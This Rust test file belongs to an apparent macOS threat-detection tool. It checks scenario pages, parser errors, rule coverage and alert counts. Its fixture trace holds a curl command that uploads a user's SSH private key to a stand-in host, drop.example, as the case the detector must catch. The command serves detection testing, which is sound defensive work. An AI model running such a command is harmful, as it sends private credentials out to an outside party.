//! `tollgate content`: stories that run.

use std::fs;
use std::path::Path;

use crate::program::{Said, hunt_json, run, tollgate};

/// A page that fires and beside it a section that does not.
const PAGE: &str = r#"# S01 · A key is sent

- must: at least MEDIUM
- source: this test

```trace
host mac1
process zsh pid=400.20 parent=300.10 auid=501 user=501 platform com.apple.zsh /bin/zsh
09:00:00.000 fork zsh -> 500
09:00:00.010 exec 500 platform com.apple.curl /usr/bin/curl : curl -T /Users/ana/.ssh/id_rsa https://drop.example/
09:00:00.020 read 500 /Users/ana/.ssh/id_rsa size=2600
09:00:00.100 flow C1 10.0.0.5:51000 -> 203.0.113.5:443 tcp for 1s out=4000 in=900 service=ssl
09:00:00.130 tls C1 sni=drop.example version=TLSv13 established
09:00:02.000 exit 500
```

| sources | outcome | confidence | attribution | mode | links | because |
|---|---|---|---|---|---|---|
| eslogger 9, eslogger 10, eslogger + log, osquery | ≥ HIGH | HIGH | named | full | L1 | |
| eslogger alone, osquery alone, OpenBSM | ≥ MEDIUM | MEDIUM | | | | |
| others | silent | | | | | nothing tells what was read |

1. `curl` reads `id_rsa`
2. `curl` sends to `drop.example`

## A public key is sent

- must: silent

```trace
host mac1
process zsh pid=400.20 parent=300.10 auid=501 user=501 platform com.apple.zsh /bin/zsh
09:00:00.000 fork zsh -> 500
09:00:00.010 exec 500 platform com.apple.curl /usr/bin/curl : curl -T /Users/ana/Public/talk.txt https://drop.example/
09:00:00.020 read 500 /Users/ana/Public/talk.txt size=2600
09:00:00.100 flow C1 10.0.0.5:51000 -> 203.0.113.5:443 tcp for 1s out=4000 in=900 service=ssl
09:00:02.000 exit 500
```

| sources | outcome |
|---|---|
| others | silent |
"#;

fn page(folder: &Path, text: &str) -> String {
    let path = folder.join("s01.md");
    fs::write(&path, text).unwrap();
    path.to_str().unwrap().to_owned()
}

#[test]
fn all_scenarios_come_to_what_their_pages_state() {
    let said = run(&["content", "test"]);
    assert_eq!(said.code, Some(0), "{}\n{}", said.out, said.err);
    assert!(said.out.contains(" 0 fail\n"), "{}", said.out);
}

#[test]
fn a_page_is_run_alone() {
    let folder = tempfile::tempdir().unwrap();
    let path = page(folder.path(), PAGE);
    let said = run(&["content", "test", &path]);
    assert_eq!((said.code, said.err.as_str()), (Some(0), ""), "{}", said.out);
    assert!(said.out.ends_with("2 scenarios of 1 page, each in 9 sets of sources: 2 hold, 0 waiting, 0 fail\n"), "{}", said.out);
    let said = run(&["content", "test", "--all", &path]);
    assert!(said.out.contains("S01 · A key is sent: at least MEDIUM: holds\n"), "{}", said.out);
}

#[test]
fn what_differs_is_said_for_its_sources() {
    let folder = tempfile::tempdir().unwrap();
    for (stated, instead, told) in [
        ("| ≥ HIGH |", "| = LOW |", "stated = LOW, found "),
        ("| ≥ HIGH | HIGH |", "| ≥ HIGH | LOW |", "stated confidence LOW, found HIGH"),
        ("| named | full |", "| exact | full |", "stated attribution exact, found named"),
        ("| named | full |", "| named | argv-only |", "stated mode argv-only, found full"),
        ("| full | L1 |", "| full | L6 |", "link L6 is not there"),
        ("2. `curl` sends", "2. `cat` sends", "no step, in this order, is: `cat` sends to `drop.example`"),
    ] {
        let text = PAGE.replacen(stated, instead, 1).replace(" | L1 | |", " | L1 | said here |");
        let said = run(&["content", "test", &page(folder.path(), &text)]);
        assert_eq!(said.code, Some(1), "{instead}: {}{}", said.out, said.err);
        assert!(said.out.contains(told) && said.out.contains("S01 · A key is sent: at least MEDIUM: FAILS"), "{instead}: {}", said.out);
    }
}

#[test]
fn a_need_that_is_not_built_excuses_but_does_not_hide() {
    let folder = tempfile::tempdir().unwrap();
    let text = PAGE.replacen("- source: this test", "- source: this test\n- needs: role, baseline", 1);
    let waiting = text.replace("- must: silent", "- must: at least HIGH").replace("| others | silent |\n", "| others | ≥ HIGH |\n");
    let said = run(&["content", "test", &page(folder.path(), &waiting)]);
    assert_eq!(said.code, Some(0), "{}", said.out);
    assert!(said.out.contains("waiting for role, baseline") && said.out.contains("missed"), "{}", said.out);
    let said = run(&["content", "test", "--all", &page(folder.path(), &text)]);
    assert!(said.out.contains("holds, and no longer needs role, baseline"), "{}", said.out);
}

#[test]
fn mistakes_are_told_with_their_lines() {
    let folder = tempfile::tempdir().unwrap();
    for (stated, instead, told) in [
        ("# S01 · A key", "# A key", "line 1: the title is `ID · what it is`"),
        ("- must: at least MEDIUM", "- must: MEDIUM", "is not what must be"),
        ("- source", "- sauce", "`sauce` is not known"),
        ("- source: this test", "- needs: time", "`time` is no need; they are identity"),
        ("sources | outcome |\n", "sources | result |\n", "`result` is no column"),
        ("| ≥ HIGH |", "| HIGH |", "`HIGH` is no outcome"),
        ("| named |", "| called |", "`called` is no attribution"),
        ("eslogger 9, ", "eslogger 8, ", "line 19: `eslogger 8` is no set of sources"),
        ("eslogger 9, ", "eslogger 9, osquery, ", "`osquery` is decided twice"),
        ("| others | silent | | | | | nothing", "| network | silent | | | | | nothing", "does not decide unified log"),
        ("nothing tells what was read |", "|", "line 21: `silent` is not `at least MEDIUM`"),
        ("1. `curl` reads", "1. `curl` looks at", "line 23: `looks at` is no verb of a hop"),
        ("read 500 /Users/ana/.ssh", "red 500 /Users/ana/.ssh", "line 11: `red` is nothing that happens"),
        ("host mac1", "host ../mac1", "the name of a host is of"),
        ("- source: this test", "- must: silent", "line 3: `must` is said twice"),
        ("- source: this test", "- technique: T1048", "line 1: the page does not say where the story is from"),
        ("# S01 · A key", "# S01 · A &#27;[2Jkey", "line 1: a character cannot be shown"),
        ("```trace", "```Trace", "the section has no block that begins with ```trace"),
        ("## A public key is sent\n\n- must", "## A public key is sent\n\nSome prose.\n\n- must", "right after the heading"),
        ("`curl` reads `id_rsa`", "`curl` reads", "does not say what curl reads"),
        ("mode | links |", "mode | mode |", "two columns `mode`"),
        ("- source: this test", "- source: this test\n- stack: crul", "no program in the trace is called `crul`"),
        ("09:00:00.000 fork", "day 2026-02-30\n09:00:00.000 fork", "is no day"),
    ] {
        assert!(PAGE.contains(stated), "{stated}");
        let said = run(&["content", "test", &page(folder.path(), &PAGE.replacen(stated, instead, 1))]);
        assert_eq!(said.code, Some(3), "{instead}: {}", said.out);
        assert!(said.err.contains("s01.md: line ") && said.err.contains(told), "{instead}: {}", said.err);
    }
    let said = run(&["content", "test", &page(folder.path(), "no page at all")]);
    assert_eq!((said.code, said.err.contains("line 1: a page begins with its heading")), (Some(3), true), "{}", said.err);
    let said = run(&["content", "test", &page(folder.path(), "")]);
    assert_eq!((said.code, said.err.contains("the page has no scenario")), (Some(3), true), "{}", said.err);
    assert_eq!(run(&["content", "test", "--only", "z99"]).code, Some(2));
    assert_eq!(run(&["content", "test", "/nowhere/s01.md"]).code, Some(3));
}

/// A site's own rule needs stories of both kinds before its content passes.
#[test]
fn a_changed_rule_without_stories_fails() {
    let folder = tempfile::tempdir().unwrap();
    let own = folder.path().to_str().unwrap();
    let said: Said = tollgate().args(["config", "init", &format!("{own}/content")]).output().unwrap().into();
    assert_eq!(said.code, Some(0), "{}", said.err);
    let content = folder.path().join("content");
    let sensitive = content.join("sensitive.toml");
    let rule = "\n[[rule]]\nid = \"site.talks\"\ncategory = \"site\"\nglobs = [\"~/Talks/**\"]\nread = 60\ncopied = 80\nsource = \"this test\"\nverified = true\n";
    fs::write(&sensitive, fs::read_to_string(&sensitive).unwrap() + rule).unwrap();
    let test = |only: &[&str]| {
        let said: Said = tollgate().args(["content", "test"]).arg(&content).args(only).output().unwrap().into();
        said
    };
    let said = test(&["--only", "a01"]);
    assert_eq!(said.code, Some(1), "{}", said.out);
    let lacking = "sensitive.toml site.talks: changed, and no scenario that fires and none that stays silent meets it\n";
    assert!(said.out.contains(lacking), "{}", said.out);
    fs::create_dir(content.join("scenarios")).unwrap();
    let fires = PAGE.replace("/Users/ana/.ssh/id_rsa", "/Users/ana/Talks/next.key").replace("`id_rsa`", "`next.key`");
    page(&content.join("scenarios"), &fires);
    let said = test(&["--only", "s01"]);
    assert_eq!(said.code, Some(1), "{}", said.out);
    assert!(said.out.contains("site.talks: changed, and no scenario that stays silent meets it"), "{}", said.out);
    page(
        &content.join("scenarios"),
        &fires
            .replace("read 500 /Users/ana/Public/talk.txt size=2600\n", "exit 500\n")
            .replace("curl -T /Users/ana/Public/talk.txt https://drop.example/", "ls /Users/ana/Talks")
            .replace("09:00:02.000 exit 500\n", ""),
    );
    let said = test(&["--only", "s01"]);
    assert_eq!(said.code, Some(0), "{}{}", said.out, said.err);
}

#[test]
fn the_notation_and_tables_to_write_from_are_printed() {
    let said = run(&["content", "notation"]);
    assert_eq!(said.code, Some(0));
    assert!(said.out.contains("fork zsh -> 401") && said.out.contains("**Times**"), "{}", said.out);
    let folder = tempfile::tempdir().unwrap();
    let said = run(&["content", "test", "--format", "draft", &page(folder.path(), PAGE)]);
    assert!(said.out.contains("| eslogger 9, eslogger 10, eslogger + log, osquery | = "), "{}", said.out);
    assert!(said.out.contains("1. `curl` reads `/Users/ana/.ssh/id_rsa`\n"), "{}", said.out);
}

/// The same days of the second reading: all records are understood, in order, and everybody's.
#[test]
fn days_of_the_second_reading_are_understood() {
    let folder = tempfile::tempdir().unwrap();
    let kept = folder.path().join("days");
    let said = run(&["content", "days", "--reading", "second", "--macs", "4", "--days", "1", "--keep", kept.to_str().unwrap()]);
    assert_eq!(said.code, Some(0), "{}", said.err);
    assert!(said.out.starts_with("4 Macs, 1 day from a Thursday on, seed 1, second reading: 4 host-days, "), "{}", said.out);
    let (hosts, logs) = (kept.join("hosts.toml"), kept.join("logs"));
    let said = run(&["hunt", "--hosts", hosts.to_str().unwrap(), logs.to_str().unwrap()]);
    assert!(said.err.contains(": 0 not understood, 0 ignored by name, 0 duplicate, 0 late, "), "{}", said.err);
    assert!(said.err.contains(", 0 lost at source"), "{}", said.err);
    for kind in ["eslogger ", "osquery ", "zeek-json "] {
        assert!(said.err.contains(kind), "{kind}: {}", said.err);
    }
}

/// One Mac on one day: every alert is counted at its level.
#[test]
fn alerts_on_ordinary_days_are_counted() {
    let folder = tempfile::tempdir().unwrap();
    let kept = folder.path().join("days");
    let said = run(&["content", "days", "--macs", "1", "--days", "1", "--keep", kept.to_str().unwrap()]);
    assert_eq!(said.code, Some(0), "{}", said.err);
    assert!(said.out.starts_with("1 Mac, 1 day from a Thursday on, seed 1: 1 host-day, "), "{}", said.out);
    let (hosts, site) = (kept.join("hosts.toml"), kept.join("site"));
    let hosts = ["--hosts", hosts.to_str().unwrap()];
    let bare = hunt_json(&kept.join("logs"), &hosts);
    let own = hunt_json(&kept.join("logs"), &[&hosts[..], &["--config", site.to_str().unwrap()]].concat());
    for level in ["LOW", "MEDIUM", "HIGH", "CRITICAL"] {
        let [bare, own] = [&bare, &own].map(|found| found.iter().filter(|finding| finding["level"] == level).count() * 100);
        let told = said.out.lines().find_map(|line| line.trim().strip_prefix(level)).unwrap().trim().to_owned();
        assert_eq!(told, format!("{bare}.0, {own}.0 with what the company says of itself"), "{level}: {}", said.out);
    }
    assert_eq!(run(&["content", "days", "--keep", kept.to_str().unwrap()]).code, Some(2), "a folder that is not empty");
    assert_eq!(run(&["content", "days", "--days", "3", "--learn", "3"]).code, Some(2), "nothing is left to count");
}

/// What days before taught comes to the same as learning, freezing and hunting by hand.
#[test]
fn alerts_are_counted_with_what_was_learned() {
    let folder = tempfile::tempdir().unwrap();
    let (kept, base) = (folder.path().join("days"), folder.path().join("base"));
    let said = run(&["content", "days", "--macs", "2", "--days", "2", "--learn", "1", "--keep", kept.to_str().unwrap()]);
    assert_eq!(said.code, Some(0), "{}", said.err);
    let told = "2 Macs, 2 days from a Thursday on, the first 1 to learn from, seed 1: 2 host-days, ";
    assert!(said.out.starts_with(told), "{}", said.out);
    let (hosts, site, base) = (kept.join("hosts.toml"), kept.join("site"), base.to_str().unwrap());
    let (logs, hosts) = (kept.join("logs"), ["--hosts", hosts.to_str().unwrap(), "--config", site.to_str().unwrap()]);
    let learn = [&["hunt", "--learn", base, "--until", "2025-11-20T23:59:59Z"][..], &hosts, &[logs.to_str().unwrap()]].concat();
    assert_eq!(run(&learn).code, Some(0));
    assert_eq!(run(&["baseline", "freeze", "-b", base, "--by", "joon"]).code, Some(0));
    let found = hunt_json(&logs, &[&hosts[..], &["--baseline", base, "--since", "2025-11-21T00:00:00Z"]].concat());
    let rare = found.iter().filter(|finding| finding.to_string().contains("destination:rarity")).count();
    assert!(rare > 0, "the baseline speaks of the second day");
    for level in ["LOW", "MEDIUM", "HIGH", "CRITICAL"] {
        let count = found.iter().filter(|finding| finding["level"] == level).count() * 50;
        let told = said.out.lines().find_map(|line| line.trim().strip_prefix(level)).unwrap();
        let told = told.split(", ").nth(2).unwrap();
        assert_eq!(told, format!("{count}.0 with what 1 day before taught too"), "{level}: {}", said.out);
    }
}
